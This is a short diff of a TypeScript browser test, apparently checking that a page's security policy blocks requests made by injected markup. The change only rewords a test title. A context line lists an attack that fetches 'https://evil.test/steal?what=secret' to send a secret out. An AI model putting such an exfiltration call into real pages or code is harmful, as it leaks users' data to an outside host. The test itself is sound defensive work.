@@ -58,7 +58,7 @@ const attacks: Record<string, (page: Page) => Promise<unknown>> = {
     page.evaluate(() => fetch('https://evil.test/steal?what=secret').catch(() => undefined)),
 }
 
-it('the browser refuses whatever somebody tries who got markup into a page', async () => {
+it('the browser refuses whatever markup that got into a page tries', async () => {
   const { page, takeComplaints } = await visit('/home')
   const asked: string[] = []
   // Only what the policy lets through gets here.
